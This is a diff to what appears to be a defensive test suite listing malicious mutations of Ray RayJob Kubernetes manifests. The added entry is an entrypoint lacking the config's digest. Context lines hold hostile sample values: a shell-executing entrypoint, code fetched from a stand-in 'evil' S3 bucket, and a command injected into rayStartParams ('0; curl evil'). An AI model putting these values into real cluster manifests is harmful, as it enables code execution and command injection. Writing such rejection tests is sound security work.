@@ -97,6 +97,8 @@ RAYJOB_ATTACKS: dict[str, Callable[[Obj], None]] = {
     "autoscaler": set_path("spec.rayClusterSpec.enableInTreeAutoscaling", True),
     "existing cluster": set_path("spec.clusterSelector", {"ray.io/cluster": "ray"}),
     "entrypoint": set_path("spec.entrypoint", "python -c 'import os; os.system(\"id\")'"),
+    "entrypoint without the config's digest": set_path(
+        "spec.entrypoint", "orchestrator run /etc/orchestrator/job.yaml --workers 2"),
     "runtime env code": set_path("spec.runtimeEnvYAML", "working_dir: s3://evil/code.zip\n"),
     "shell in rayStartParams": set_path("spec.rayClusterSpec.headGroupSpec.rayStartParams.num-cpus", "0; curl evil"),
     "LoadBalancer": set_path("spec.rayClusterSpec.headGroupSpec.serviceType", "LoadBalancer"),
